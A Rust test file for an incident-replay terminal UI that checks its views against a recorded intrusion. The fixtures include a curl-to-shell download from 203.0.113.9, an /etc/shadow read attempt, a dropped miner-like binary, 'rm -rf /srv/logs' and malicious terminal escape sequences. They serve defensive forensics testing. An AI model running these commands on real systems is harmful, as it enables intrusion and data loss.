//! The seven views: one moment, one filter, and a trail from one to the next.

use crate::keys::{press, type_in};
use crate::screens::{ALL, check};
use crate::story::{self, at, who};
use crossterm::event::KeyCode;
use taffrail_tui::state::recording::Body;
use taffrail_tui::state::{Action, View, summary};
use taffrail_tui::{State, screen_text};

const KEYS: [(char, View, &str); 7] = [
    ('1', View::Story, "story"),
    ('2', View::Timeline, "timeline"),
    ('3', View::Processes, "processes"),
    ('4', View::Network, "network"),
    ('5', View::Files, "files"),
    ('6', View::Terminal, "terminal"),
    ('7', View::Sql, "sql"),
];

/// The incident with a person at a terminal in it, and holes.
fn eventful() -> State {
    story::incident_with(|rows| {
        story::gap(rows, -30_000, -21_500, Some(1_204), true);
        story::terminal(rows, 3_000, "ls -l /srv\n", "total 8\ndrwxr-xr-x\t2 root \u{1b}[01;34mwww\u{1b}[0m\n");
        story::terminal(rows, 3_500, "rm -rf /srv/logs\n", "# ");
        story::terminal(rows, 4_000, "exit\n", "");
    })
}

fn line(state: &State) -> String {
    state.current().map(|event| summary::of(&event.recording, &event)).unwrap_or_default()
}

#[test]
fn every_view_looks_as_it_was_looked_at() {
    for (key, _, name) in KEYS.into_iter().filter(|(_, view, _)| *view != View::Timeline) {
        let mut state = eventful();
        state.apply(Action::Seconds(4));
        press(&mut state, KeyCode::Char(key));
        check(&format!("view_{name}"), &state, ALL);
    }
}

#[test]
fn every_view_shows_the_losses_with_their_number_the_moment_and_its_own_name() {
    let mut state = eventful();
    for (key, view, _) in KEYS {
        press(&mut state, KeyCode::Char(key));
        assert_eq!(state.view, view);
        assert_eq!(state.at, story::TRIGGER, "a view moves nothing");
        for (width, height) in [(80, 24), (120, 40), (250, 80)] {
            let screen = screen_text(&state, width, height);
            assert!(screen.contains("lost: 1 204"), "{view:?}\n{screen}");
            assert!(screen.contains("+0.000 s"), "{view:?}\n{screen}");
            assert!(screen.contains(&format!("[{key} {}]", view.as_str())), "{view:?}\n{screen}");
        }
        if view == View::Sql {
            press(&mut state, KeyCode::Esc);
        }
    }
}

#[test]
fn a_filter_is_named_in_every_view_and_taken_off_with_a_key() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('p'));
    assert!(state.filter.process.is_some());
    for key in ['1', '2', '3', '4', '5', '6'] {
        press(&mut state, KeyCode::Char(key));
        let screen = screen_text(&state, 80, 24);
        assert!(screen.contains("[sh 9107 and below]"), "{key}\n{screen}");
    }
    press(&mut state, KeyCode::Backspace);
    assert!(state.filter.is_off());
}

#[test]
fn escape_goes_back_the_way_one_came() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('1'));
    press(&mut state, KeyCode::Home);
    press(&mut state, KeyCode::End);
    let (view, at) = (state.view, state.at);
    press(&mut state, KeyCode::Enter);
    assert_ne!(state.view, view, "the container's end is told by the processes");
    press(&mut state, KeyCode::Char('a'));
    assert!(screen_text(&state, 120, 40).contains("story"), "the trail names where one came from");
    press(&mut state, KeyCode::Esc);
    press(&mut state, KeyCode::Esc);
    assert_eq!((state.view, state.at), (view, at));
    assert!(state.filter.is_off() && state.trail.is_empty());
}

#[test]
fn the_story_tells_who_came_what_they_fetched_and_what_is_missing() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('1'));
    let told: Vec<&str> = state.story.iter().map(|sentence| sentence.text.as_str()).collect();
    for wanted in [
        "From here on 1 204 bulk events are missing, within 8.5 s (refused)",
        "shell-from-web-server (critical, T1059.004): sh was run by httpd with its input on a pipe",
        "sh (9107) ran `curl -s http://203.0.113.9/x.sh` as process 9108",
        "curl (9108) connected to 203.0.113.9:80, sent 78 B and received 1.9 kB in the 587 ms that it lasted",
        "sh (9109) tried to open /etc/shadow: EACCES",
        "sh (9109) made /tmp/.x/kworkerds",
        "chmod (9115) made /tmp/.x/kworkerds executable",
        "kworkerds (9116) could not connect to [2001:db8::2]:3333: ECONNREFUSED",
        "sh (9109) was given `rm -rf /srv/logs` through a pipe",
        "kworkerds (9116) was killed by SIGKILL",
        "The container was removed",
    ] {
        assert!(told.contains(&wanted), "{wanted} is not among {told:#?}");
    }
    assert!(!told.iter().any(|text| text.contains("index.php")), "what the server does all day is no story");
}

#[test]
fn moving_in_the_story_moves_the_moment() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('1'));
    press(&mut state, KeyCode::Home);
    let mut seen = Vec::new();
    for _ in 0..state.story.len() {
        press(&mut state, KeyCode::Down);
        seen.push(state.sentence());
    }
    seen.dedup();
    assert_eq!(seen.last().copied().flatten(), Some(state.story.len() - 1));
    assert!(seen.len() + 1 >= state.story.len(), "each is stood on: {seen:?}");
    assert_eq!(line(&state), "container removed");
}

#[test]
fn a_session_is_played_back_as_far_as_the_moment_and_backwards_too() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('6'));
    state.apply(Action::Seconds(3));
    let then = screen_text(&state, 80, 24);
    assert!(then.contains("ls -l /srv") && !then.contains("rm -rf"), "{then}");
    state.apply(Action::Seconds(2));
    let later = screen_text(&state, 80, 24);
    assert!(later.contains("drwxr-xr-x      2 root www") && later.contains("rm -rf /srv/logs"), "{later}");
    state.apply(Action::Seconds(-2));
    assert_eq!(screen_text(&state, 80, 24), then);
}

#[test]
fn stepping_in_a_session_goes_from_one_stretch_to_the_next() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('6'));
    press(&mut state, KeyCode::Down);
    assert_eq!(state.at, at(3_000));
    press(&mut state, KeyCode::Down);
    assert_eq!(line(&state), "printed \"total 8\ndrwxr-xr-x\t2 root \u{1b}[01;34mwww\u{1b}[0m\n\"");
}

#[test]
fn a_program_that_draws_a_screen_is_drawn_and_reaches_no_other() {
    let mut state = story::incident_with(|rows| {
        let drawn = "\u{1b}[2J\u{1b}[3;5Hmiddle\u{1b}[1;1Htop\u{1b}]0;owned\u{7}\u{1b}[5n\u{202e}x";
        story::terminal(rows, 1_000, "top\n", drawn);
    });
    press(&mut state, KeyCode::Char('6'));
    state.apply(Action::Seconds(2));
    let screen = screen_text(&state, 80, 24);
    assert!(screen.contains("    middle"), "{screen}");
    assert!(!screen.contains("owned") && !screen.contains('\u{202e}') && !screen.contains('\u{1b}'));
}

#[test]
fn what_was_typed_is_told_from_what_was_printed_by_more_than_its_text() {
    let mut state = story::incident_with(|rows| story::terminal(rows, 1_000, "whoami\n", "whoami\nroot\n"));
    press(&mut state, KeyCode::Char('6'));
    state.apply(Action::Seconds(2));
    let film = state.film.as_ref().expect("a film");
    let typed = |row| film.is_typed(film.screen().cell(row, 0).expect("a cell").fgcolor());
    assert!(typed(0) && !typed(1), "{}", film.screen().contents());
}

#[test]
fn keys_that_a_program_echoes_itself_are_not_drawn_twice() {
    let mut state = story::incident_with(|rows| {
        for (number, key) in ["l", "s", "\r"].into_iter().enumerate() {
            let echo = if key == "\r" { "\r\nbin etc\r\n" } else { key };
            story::terminal(rows, 1_000 + 50 * number as i64, key, echo);
        }
    });
    press(&mut state, KeyCode::Char('6'));
    state.apply(Action::Seconds(2));
    assert_eq!(state.film.as_ref().expect("a film").screen().contents(), "ls\nbin etc");
    let told: Vec<&str> = state.story.iter().map(|sentence| sentence.text.as_str()).collect();
    assert!(told.contains(&"sh (9109) was given `ls` through a pipe"), "{told:?}");
}

#[test]
fn a_folded_process_hides_its_descendants_until_it_is_unfolded() {
    let mut state = eventful();
    state.apply(Action::Seconds(4));
    press(&mut state, KeyCode::Char('3'));
    let all = state.tree_rows().len();
    let shell = state.moment.rows.iter().find(|row| state.recording.images[row.image as usize].pid == 9107);
    state.tree_choice = Some(shell.expect("the shell").process);
    press(&mut state, KeyCode::Char('z'));
    assert!(state.tree_rows().len() < all);
    let folded = screen_text(&state, 80, 24);
    assert!(folded.contains("+sh") && !folded.contains("kworkerds 9116"), "{folded}");
    press(&mut state, KeyCode::Char('z'));
    assert_eq!(state.tree_rows().len(), all);
    press(&mut state, KeyCode::Char('Z'));
    press(&mut state, KeyCode::Char('Z'));
    assert_eq!(state.tree_rows().len(), all);
}

#[test]
fn the_process_view_says_who_started_it_with_what_arguments_and_follows_it() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('3'));
    let screen = screen_text(&state, 120, 40);
    for wanted in ["run by", "httpd 2251", "sh -c 'curl -s http://203.0.113.9/x.sh | sh'", "lineage", "exe /bin/sh"] {
        assert!(screen.contains(wanted), "{wanted}\n{screen}");
    }
    press(&mut state, KeyCode::Enter);
    assert_eq!(state.view, View::Timeline);
    assert!(state.filter.process.is_some());
}

#[test]
fn the_network_map_shows_both_directions_ports_and_bytes_at_the_moment() {
    let mut state = eventful();
    press(&mut state, KeyCode::Char('4'));
    let before = screen_text(&state, 120, 40);
    assert!(!before.contains("203.0.113.9"), "not yet:\n{before}");
    state.apply(Action::Seconds(4));
    let screen = screen_text(&state, 120, 40);
    let line = |text: &str| screen.lines().find(|line| line.contains(text)).unwrap_or_default().to_owned();
    let fetched = line("203.0.113.9");
    for wanted in ["curl 9108", "tcp 80", "\u{2191}78 B \u{2193}1.9 kB", "\u{25b6}"] {
        assert!(fetched.contains(wanted), "{wanted}: {fetched}\n{screen}");
    }
    assert!(line("198.51.100.200").contains("open"), "{screen}");
    assert!(line("2001:db8::2").contains("refused"), "{screen}");
    assert!(line("198.51.100.7 ").contains("\u{25c0}"), "{screen}");
}

#[test]
fn two_hundred_addresses_are_brought_together_and_opened_one_group_at_a_time() {
    let mut state = story::incident_with(|rows| {
        for number in 0..200_i64 {
            let remote = format!("10.{}.0.{}:443", number / 50, number % 50 + 1);
            let call = story::Call {
                op: "connect",
                local: "172.17.0.4:5",
                remote: Some(&remote),
                end: None,
                bytes: (0, 0),
                result: 0,
            };
            story::flow(rows, -40_000 + number, who(4, 2251, "httpd"), &call);
        }
    });
    press(&mut state, KeyCode::Char('4'));
    let screen = screen_text(&state, 80, 24);
    assert!(screen.contains("10.3.0.0/24  50 addresses"), "{screen}");
    assert!(state.map.list.rows.len() < 15);
    while !matches!(state.map.list.rows.get(state.map.list.chosen), Some(taffrail_tui::state::MapRow::Group { label, .. }) if label == "10.3.0.0/24")
    {
        let before = state.map.list.chosen;
        press(&mut state, KeyCode::Down);
        assert_ne!(state.map.list.chosen, before, "the group is there");
    }
    press(&mut state, KeyCode::Enter);
    assert!(screen_text(&state, 120, 80).contains("10.3.0.50"));
    press(&mut state, KeyCode::Down);
    press(&mut state, KeyCode::Enter);
    assert_eq!(state.filter.address.as_deref(), Some("10.3.0.1"));
    assert_eq!(state.visible.len(), 1);
}

#[test]
fn the_files_view_says_what_became_of_each_file_and_who_did_it() {
    let mut state = eventful();
    state.apply(Action::Seconds(4));
    press(&mut state, KeyCode::Char('5'));
    let screen = screen_text(&state, 80, 24);
    let line = screen.lines().find(|line| line.contains("kworkerds")).unwrap_or_default();
    assert!(screen.contains("/tmp/.x"), "{screen}");
    assert!(line.contains("- kworkerds") && line.contains("kworkerds 9116"), "removed by itself: {screen}");
    state.apply(Action::Seconds(-2));
    let before = screen_text(&state, 80, 24);
    assert!(before.contains("+ kworkerds") && before.contains("sh 9109"), "{before}");
}

#[test]
fn what_led_here_and_what_came_after_are_of_the_lineage() {
    let mut state = story::incident();
    state.apply(Action::Seconds(2));
    state.apply(Action::Find);
    type_in(&mut state, "unlink");
    press(&mut state, KeyCode::Enter);
    press(&mut state, KeyCode::Backspace);
    assert_eq!(line(&state), "unlink /tmp/.x/kworkerds");
    press(&mut state, KeyCode::Char('b'));
    let lines: Vec<String> =
        state.visible.iter().map(|at| summary::of(&state.recording, &state.recording.events[at as usize])).collect();
    assert!(lines.iter().any(|line| line.starts_with("exec sh -c")), "the shell led to it: {lines:#?}");
    assert!(!lines.iter().any(|line| line.starts_with("connect 198")), "what came later did not: {lines:#?}");
    assert!(!lines.iter().any(|line| line.contains("exec id")), "a sister did not: {lines:#?}");
    press(&mut state, KeyCode::Esc);
    press(&mut state, KeyCode::Char('a'));
    let after = state.visible.iter().map(|at| &state.recording.events[at as usize]);
    assert!(after.clone().all(|event| event.time >= state.at), "only what came after");
    assert!(after.clone().any(|event| matches!(event.body, Body::FlowBegin(_))));
}

#[test]
fn only_this_file_and_only_this_address_are_asked_from_a_row() {
    let mut state = story::incident();
    state.apply(Action::Find);
    type_in(&mut state, "shadow");
    press(&mut state, KeyCode::Enter);
    press(&mut state, KeyCode::Backspace);
    press(&mut state, KeyCode::Char('o'));
    assert_eq!(state.visible.len(), 1);
    assert!(screen_text(&state, 80, 24).contains("[/etc/shadow]"));
    press(&mut state, KeyCode::Esc);
    press(&mut state, KeyCode::Char('i'));
    assert!(screen_text(&state, 80, 24).contains("this row names no address"));
}

#[test]
fn a_range_restricts_every_view_until_it_is_taken_off() {
    let mut state = story::incident();
    press(&mut state, KeyCode::Char('v'));
    state.apply(Action::Seconds(1));
    press(&mut state, KeyCode::Char('v'));
    let times = |state: &State| -> Vec<i64> {
        state.visible.iter().map(|event| state.recording.events[event as usize].time).collect()
    };
    assert!(times(&state).iter().all(|time| (at(0)..=at(1_000)).contains(time)));
    assert_eq!(state.strip_range(), (at(0), at(1_000)));
    state.apply(Action::Seconds(60));
    assert_eq!(state.at, at(1_000), "the playhead stays in it");
    press(&mut state, KeyCode::Char('4'));
    assert!(!screen_text(&state, 120, 40).contains("198.51.100.200"));
    press(&mut state, KeyCode::Esc);
    assert!(state.filter.range.is_none());
}

#[test]
fn one_goes_to_a_time_by_typing_it() {
    let mut state = story::incident();
    for (typed, wanted) in [
        ("-30s", at(-30_000)),
        ("12:00:05", at(5_000)),
        ("11:59:59.5", at(-500)),
        ("+1.5s", at(1_500)),
        ("start", at(-58_000)),
        ("trigger", at(0)),
    ] {
        press(&mut state, KeyCode::Char('g'));
        type_in(&mut state, typed);
        press(&mut state, KeyCode::Enter);
        assert_eq!(state.at, wanted, "{typed}");
    }
    press(&mut state, KeyCode::Char('g'));
    type_in(&mut state, "noon");
    press(&mut state, KeyCode::Enter);
    assert_eq!(state.at, at(0));
    assert!(screen_text(&state, 120, 40).contains("not a time"));
}

#[test]
fn findings_are_stepped_through_with_brackets() {
    let mut state = story::incident();
    press(&mut state, KeyCode::Home);
    press(&mut state, KeyCode::Char(']'));
    assert!(matches!(state.current().expect("an event").body, Body::Finding(_)));
    press(&mut state, KeyCode::Char(']'));
    assert!(screen_text(&state, 80, 24).contains("no finding after"));
    press(&mut state, KeyCode::End);
    press(&mut state, KeyCode::Char('['));
    assert_eq!(state.at, story::TRIGGER);
}

#[test]
fn a_search_hides_nothing_and_n_goes_from_match_to_match() {
    let mut state = story::incident();
    let all = state.visible.len();
    press(&mut state, KeyCode::Home);
    press(&mut state, KeyCode::Char('/'));
    type_in(&mut state, "KWORKERDS");
    press(&mut state, KeyCode::Enter);
    state.wait();
    assert_eq!(state.visible.len(), all);
    assert_eq!(line(&state), "create /tmp/.x/kworkerds");
    press(&mut state, KeyCode::Char('n'));
    state.wait();
    assert_eq!(line(&state), "exec chmod +x /tmp/.x/kworkerds");
    press(&mut state, KeyCode::Char('N'));
    state.wait();
    assert_eq!(line(&state), "create /tmp/.x/kworkerds");
    assert!(!screen_text(&state, 80, 24).contains("again"));
}

#[test]
fn a_search_goes_on_from_the_other_end_and_says_so_and_which_match_it_is_at() {
    let mut state = story::incident();
    press(&mut state, KeyCode::Home);
    press(&mut state, KeyCode::Char('/'));
    type_in(&mut state, "KWORKERDS");
    press(&mut state, KeyCode::Enter);
    state.wait();
    let first = (state.selected, line(&state));
    let footer = |state: &State| screen_text(state, 120, 40).lines().last().unwrap_or_default().to_owned();
    press(&mut state, KeyCode::Char('N'));
    state.wait();
    let all: usize = footer(&state)
        .split_once("match ")
        .and_then(|(_, of)| of.split_once(" of "))
        .and_then(|(number, rest)| {
            let all = rest.split(',').next()?;
            (number == all && rest.trim_end().ends_with(", from the end again")).then(|| all.parse().ok())?
        })
        .unwrap_or_else(|| panic!("{}", footer(&state)));
    assert!(all > 2);
    let mut seen = vec![state.selected];
    for number in 1..=all {
        press(&mut state, KeyCode::Char('n'));
        state.wait();
        let again = if number == 1 { ", from the beginning again" } else { "" };
        let wanted = format!("match {number} of {all}{again}");
        assert!(footer(&state).trim_end().ends_with(&wanted), "{wanted}\n{}", footer(&state));
        seen.push(state.selected);
    }
    assert_eq!(seen[1], first.0, "{}", first.1);
    assert_eq!(seen.first(), seen.last(), "once around");
    // What is nowhere is nowhere, and the only match is found again from itself.
    press(&mut state, KeyCode::Char('/'));
    type_in(&mut state, "no such thing");
    press(&mut state, KeyCode::Enter);
    press(&mut state, KeyCode::Char('n'));
    state.wait();
    assert!(footer(&state).contains("no match"), "{}", footer(&state));
}

#[test]
fn an_empty_view_says_that_the_filter_leaves_nothing_and_not_that_nothing_was_done() {
    let mut state = eventful();
    state.apply(Action::Seconds(4));
    press(&mut state, KeyCode::Char('f'));
    type_in(&mut state, "no such thing");
    press(&mut state, KeyCode::Enter);
    for key in ['4', '5'] {
        press(&mut state, KeyCode::Char(key));
        let screen = screen_text(&state, 80, 24);
        assert!(screen.contains("passes the filter") && !screen.contains("Nobody"), "{screen}");
    }
}

#[test]
fn a_small_screen_has_the_views_by_their_numbers_and_the_way_to_the_help() {
    let state = eventful();
    let screen = screen_text(&state, 50, 15);
    assert!(screen.contains("[2 timeline]") && screen.contains("6  7"), "{screen}");
    assert!(screen.contains("? help"), "{screen}");
}

#[test]
fn a_note_is_kept_with_its_tags_and_shown_where_it_belongs() {
    let mut state = story::incident();
    press(&mut state, KeyCode::Char('m'));
    assert!(state.notes.take_changed());
    press(&mut state, KeyCode::Char('e'));
    type_in(&mut state, "the way in #entry");
    press(&mut state, KeyCode::Enter);
    assert_eq!(state.notes.notes.len(), 1);
    let note = &state.notes.notes[0];
    assert_eq!((note.text.as_str(), note.tags.as_slice()), ("the way in #entry", &["entry".to_owned()][..]));
    assert!(screen_text(&state, 120, 40).contains("1 noted"));
    let markdown = state.notes.markdown();
    assert!(markdown.contains("the way in #entry") && markdown.contains("shell-from-web-server"), "{markdown}");
}

#[test]
fn a_row_is_copied_as_text() {
    let mut state = story::incident();
    press(&mut state, KeyCode::Char('y'));
    let copied = state.copied.take().expect("a text");
    assert!(copied.contains(" sh 9107 shell-from-web-server: "), "{copied}");
}
